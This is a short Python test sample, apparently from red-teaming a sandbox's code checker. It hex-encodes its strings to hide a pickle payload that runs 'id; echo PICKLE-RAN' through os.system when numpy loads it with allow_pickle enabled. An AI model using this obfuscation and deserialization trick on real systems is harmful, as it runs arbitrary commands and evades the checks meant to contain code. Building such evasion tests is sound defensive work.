# Source: black-box attack on sandexec's check, 2026-11-26; family: keywords computed at run time (allow_pickle)
# Verified to run in sandexec-python:bookworm when unchecked.
import numpy as np
def s(h):
    return bytes.fromhex(h).decode()
path = s("2f746d702f782e706b6c")
np.savetxt(path, [], header=s("63706f7369780a73797374656d0a285669643b206563686f205049434b4c452d52414e0a74522e"), comments="")
k = s("616c6c6f775f7069636b6c65")
print(np.load(path, **{k: True}))
